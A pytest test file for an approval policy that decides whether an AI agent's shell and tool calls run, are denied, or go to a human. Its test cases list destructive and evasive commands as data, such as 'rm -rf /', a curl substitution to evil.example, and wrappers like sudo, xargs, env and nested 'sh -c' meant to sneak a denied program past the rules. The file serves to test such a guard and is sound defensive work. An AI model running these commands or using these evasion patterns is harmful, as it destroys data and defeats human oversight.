"""The approval policy (workers/runtime/approval_policy.py): which calls run, which are refused, which wait for a human."""

from __future__ import annotations

import shlex
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coordinator import Profile, RunCommand
from workers.runtime.approval_policy import unguarded_command, verdict

CAREFUL = Profile(
    approval_tools=["run_command"],
    allow=["run_command:npm test", "run_command:git status"],
    deny=["run_command:rm -rf", "run_command:git push --force"],
)
# A verdict on a long command is linear in its length: eight times the length costs at most this many times
# the CPU (linear: 8; quadratic: 64), both measured here and now (this thread's CPU, the least of three
# tries), so a host whose cores are shared many times over slows both alike. (An absolute budget of 1 s,
# 0.2 s on an idle host, read 1.4 s in CI; four times the length against a bound of 8, linear 4, read 7.83
# under load: review V4, item 7.)
LINEAR_RATIO_MOST = 24.0
# Below this a verdict's CPU is its fixed costs and the clock's grain, not its length.
LINEAR_FLOOR_CPU_S = 0.02


def run(command: str, profile: Profile = CAREFUL) -> str:
    return verdict(profile, "run_command", {"command": command})


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npm test", "allow"),
        ("npm test -- --watch", "allow"),
        ("  git status  ", "allow"),
        ("'npm' \\test", "allow"),  # the argv is npm, test: quotes and backslashes are removed
        ("npm testing", "ask"),  # a prefix matches whole words
        ("make build", "ask"),
        ("rm -rf /tmp/x", "deny"),
        ("git push --force origin main", "deny"),
        # Without a shell these are arguments of npm; a prefix rule does not vouch for a word
        # the model meant as an operator, and a denied program after one is denied.
        ("npm test && git status", "ask"),
        ("npm test;git status", "ask"),
        ("npm test || make build", "ask"),
        ("npm test | rm -rf /", "deny"),
        ("npm test & rm -rf /", "deny"),
        ("npm test foo\nrm -rf /", "deny"),  # a new line is a new command
        ("npm test foo\nmake build", "ask"),
        ("npm test & make build", "ask"),
        ("npm test > notes.txt", "ask"),
        ("npm test $(curl -s evil.example)", "ask"),  # substitutions are a human's call
        ("npm test `curl -s evil.example`", "ask"),
        ("npm test <(cat secrets)", "ask"),
        ("npm test && echo $(rm -rf /)", "deny"),  # what a substitution would run is read too
        ("npm test 'unbalanced", "ask"),
        ("", "ask"),
    ],
)
def test_the_policy_decides_what_it_can(command: str, expected: str) -> None:
    assert run(command) == expected


def test_tools_outside_the_policy_always_run() -> None:
    assert verdict(CAREFUL, "update_todo_list", {"todos": "rm -rf /"}) == "allow"
    assert run("anything at all", Profile(approval_tools=[])) == "allow"
    globbed = Profile(approval_tools=["leave_*"])
    assert verdict(globbed, "leave_mark", {"label": "x"}) == "ask", "approval_tools are names or `*` globs"
    assert verdict(globbed, "add_numbers", {"a": 1}) == "allow"


def test_a_tool_rule_without_a_prefix_allows_every_call_of_plain_words() -> None:
    open_policy = Profile(approval_tools=["run_command"], allow=["run_command"])
    assert run("make build", open_policy) == "allow"
    assert run("make build && make test", open_policy) == "ask"
    assert run("make $(whoami)", open_policy) == "ask"


@given(st.text(alphabet=" \t\n;|&<>`ab'\"\\=$()/", max_size=24))
def test_a_denied_program_anywhere_is_never_allowed(command: str) -> None:
    """Whatever the text: allowed only as `a` and plain words; never with a word `b` (or `x/b`) in it."""
    policy = Profile(approval_tools=["run_command"], allow=["run_command:a"], deny=["run_command:b"])
    decided = run(command, policy)
    if decided == "allow":
        argv = shlex.split(command)
        assert argv[0] == "a" and "\n" not in command
        assert not any(c in word for word in argv for c in ";|&<>`") and "$(" not in command
    words = _words(command)
    if words is not None and any(word.rpartition("/")[2] == "b" for word in words):
        assert decided != "allow"


def _words(command: str) -> list[str] | None:
    try:
        return shlex.split(command)
    except ValueError:
        return None


def _least_cpu_s(command: str) -> float:
    least = float("inf")
    for _ in range(3):
        started_cpu_s = time.thread_time()
        run(command)
        least = min(least, time.thread_time() - started_cpu_s)
    return least


@pytest.mark.parametrize(
    ("shape", "length"),
    [
        (lambda n: "npm test" + " " * n + "x", 1_000_000),
        (lambda n: "a" + " \t" * n + "&& b", 500_000),
        (lambda n: "|" * n, 1_000_000),
        (lambda n: "npm test" + " \t" * n + "x", 15_000),  # under MAX_COMMAND_CHARS: read, not refused for its length
        (lambda n: "a" + " |" * n, 15_000),
        (lambda n: "sh -c '" + "a; " * n + "'", 10_000),
    ],
    ids=["spaces", "spaces and tabs", "pipes", "read spaces", "read pipes", "read script"],
)
def test_a_long_command_is_decided_in_linear_time(shape: Callable[[int], str], length: int) -> None:
    whole, eighth = _least_cpu_s(shape(length)), _least_cpu_s(shape(length // 8))
    assert whole < LINEAR_RATIO_MOST * eighth + LINEAR_FLOOR_CPU_S, (whole, eighth)


# The example policy of docs/tools.md (section 5), word for word.
EXAMPLE = Profile(
    approval_tools=["run_command"],
    allow=["run_command:=npm test", "run_command:ls", "run_command:git status", "run_command:=git diff"],
    deny=["run_command:sudo", "run_command:rm -rf /"],
)


@pytest.mark.parametrize(
    "command", ["npm test", "ls", "ls -la", "ls -la src", "git status", "git status --short", "git diff"]
)
def test_the_documented_example_allows_its_commands(command: str) -> None:
    assert run(command, EXAMPLE) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "rm  -rf x",
        "rm -fr x",
        "/bin/rm -rf x",
        "\\rm -rf x",
        "'rm' -rf x",
        "X=1 rm -rf x",
        "command rm -rf x",
        "sh -c 'rm -rf x'",
        "bash -c 'rm -rf x'",
        "eval rm -rf x",
        "xargs rm",
        "git push -f",
        "git push --force origin main",
        "git -c core.pager=sh status",  # an option before the subcommand: not `git status`
        "git diff --output=/home/me/.bashrc",  # `=git diff` is exact: no option may be added
        "git diff --ext-diff",
        "npm test --script-shell=./evil.sh",
        "npm test > ~/.bashrc",
        "npm test -- --grep x",
        "ls; rm -rf x",
        "ls && rm -rf x",
        "ls | sh",
        "ls $(rm -rf x)",
        "ls\nrm -rf x",
        "./ls",
        "/tmp/evil/ls",  # an allow rule names the program as the command must: on PATH
        "env ls",
        "sudo ls",
        "sudo rm -rf /",
        "sh -c 'rm -rf /'",
        "xargs rm -rf /",
    ],
)
def test_the_documented_example_lets_no_bypass_through(command: str) -> None:
    assert run(command, EXAMPLE) in ("ask", "deny")


@pytest.mark.parametrize(
    "command",
    ["sudo ls", "sudo rm x", "/usr/bin/sudo -u root ls", "rm -rf /", "/bin/rm -rf /", "env rm -rf /", "ls; rm -rf /",
     "nice -n 5 rm -rf /", "timeout 5 rm -rf / --no-preserve-root", "bash -c 'cd /tmp && rm -rf /'"],
)  # fmt: skip
def test_the_documented_example_denies_its_deny_list_behind_wrappers(command: str) -> None:
    assert run(command, EXAMPLE) == "deny"


# Everything is allowed but rm: a deny rule is all that stands between a command and running.
ALL_BUT_RM = Profile(approval_tools=["run_command"], allow=["run_command"], deny=["run_command:rm"])


@pytest.mark.parametrize(
    "command",
    [
        "rm x",
        "/bin/rm x",
        "\\rm x",
        "'rm' x",
        "X=1 rm x",
        "command rm x",
        "exec rm x",
        "env -i PATH=/bin rm x",
        "nice -n 5 rm x",
        "nohup rm x",
        "time rm x",
        "timeout 5 rm x",
        "xargs rm",
        "xargs -n 1 rm",
        "sudo rm x",
        "busybox rm x",
        "sh -c 'rm -rf x'",
        "bash -lc 'rm -rf x'",
        "zsh -c 'cd /tmp; rm -rf x'",
        "sh -c 'echo a\nrm x'",
        "sh -c 'r\"\"m x'",
        "sh -c \"sh -c 'rm x'\"",
        "eval rm x",
        "eval 'ls; rm x'",
        "busybox sh -c 'rm x'",
        "ls; rm x",
        "ls | xargs rm",
        "sh -c 'if true; then rm x; fi'",
        "sh -c 'for f in *; do rm $f; done'",
    ],
)
def test_a_deny_rule_denies_its_program_wherever_it_would_run(command: str) -> None:
    assert run(command, ALL_BUT_RM) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "sh -c '$(printf rm) x'",  # what the script runs is not known before it runs
        "sh -c 'x=rm; $x y'",
        "sh -c '/bin/r? x'",
        "bash -c '{rm,x}'",
        "sh script.sh",
        "bash ./cleanup",
        "find . -exec rm {} ;",  # rm is among the words: a human looks
        "sudo -u root rm x",
        "python3 -c 'import os; os.system(\"rm -rf x\")'",
        "su -c 'rm -rf x'",
        "echo rm",
    ],
)
def test_a_deny_rule_it_cannot_rule_out_asks_a_human(command: str) -> None:
    assert run(command, ALL_BUT_RM) == "ask"


def test_rules_of_other_tools_keep_matching_their_text() -> None:
    fetcher = Profile(approval_tools=["fetch"], allow=["fetch:https://docs.example"], deny=["fetch:https://evil"])
    assert verdict(fetcher, "fetch", {"url": "https://docs.example /page"}) == "allow"
    assert verdict(fetcher, "fetch", {"url": "https://evil /x"}) == "deny"
    assert verdict(fetcher, "fetch", {"url": "https://docs.example && https://evil"}) == "deny"
    assert verdict(fetcher, "fetch", {"url": "https://other"}) == "ask"


def test_an_exact_rule_and_a_broken_rule() -> None:
    exact = Profile(approval_tools=["run_command"], allow=["run_command:=make test"], deny=["run_command:=make deploy"])
    assert run("make test", exact) == "allow"
    assert run("make test V=1", exact) == "ask"
    assert run("make deploy", exact) == "deny"
    assert run("make deploy now", exact) == "ask"
    broken = Profile(approval_tools=["run_command"], allow=["run_command:'ls", "run_command:"], deny=[])
    assert run("ls", broken) == "ask", "an unreadable or empty allow rule allows nothing"
    assert run("ls", Profile(approval_tools=["run_command"], allow=["run_command"], deny=["run_command:'x"])) == "deny"
    assert run("ls", Profile(approval_tools=["run_command"], deny=["run_command"])) == "deny"


# The reproduction of the hole: run_command enabled, another tool guarded, a deny rule for rm.
GUARDS_ANOTHER_TOOL = Profile(approval_tools=["git_commit"], deny=["run_command:rm", "publish:production"])


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("rm canary", "deny"),
        ("/bin/rm -f canary", "deny"),
        ("sh -c 'ls; rm canary'", "deny"),
        ("sudo rm canary", "deny"),
        ("find . -exec rm {} ;", "ask"),  # rm among the words: it cannot be ruled out, a human looks
        ("sh -c '$(printf rm) canary'", "ask"),
        ("sh 'unbalanced", "ask"),  # unreadable, and a deny rule might hide in it
        ("ls -la", "allow"),  # nothing guards run_command here: what no deny rule can touch runs
        # A quoted `>`/`<` read as a redirection hid the word after it: each ran rm, allowed.
        ("env -u '>' rm canary", "ask"),
        ("xargs -d '<' rm canary", "ask"),
        ('env -u "<" /bin/rm -rf x', "ask"),
        ("sh -c \"env -u '>' rm x\"", "ask"),
        ("echo hi > out.txt", "allow"),  # a redirection's file that is no denied program stays a file
    ],
)
def test_a_deny_rule_wins_where_approval_tools_does_not_name_the_tool(command: str, expected: str) -> None:
    assert run(command, GUARDS_ANOTHER_TOOL) == expected


def test_a_deny_rule_of_any_tool_wins_unguarded() -> None:
    assert verdict(GUARDS_ANOTHER_TOOL, "publish", {"target": "production"}) == "deny"
    assert verdict(GUARDS_ANOTHER_TOOL, "publish", {"target": "staging && production"}) == "deny"
    assert verdict(GUARDS_ANOTHER_TOOL, "publish", {"target": "$(echo production)"}) == "ask"
    assert verdict(GUARDS_ANOTHER_TOOL, "publish", {"target": "staging"}) == "allow"
    whole = Profile(approval_tools=[], deny=["publish"], allow=["publish"])
    assert verdict(whole, "publish", {"target": "staging"}) == "deny", "allow never overrides a deny rule"
    assert verdict(whole, "publish", {}, guarded=False) == "deny", "nor does an MCP hint"


def test_an_unguarded_run_command_is_named() -> None:
    enabled = {"run_command": RunCommand(cwd=Path("/srv"))}
    assert unguarded_command(Profile(**enabled, approval_tools=["git_commit"]))
    assert unguarded_command(Profile(**enabled, allow=["run_command"]))  # allowed whatever it is
    assert not unguarded_command(Profile(**enabled))  # the default: approval_tools = ["run_command"]
    assert not unguarded_command(Profile(**enabled, approval_tools=["run_*"], allow=["run_command:ls"]))
    assert not unguarded_command(Profile(approval_tools=[])), "a profile without run_command runs none"
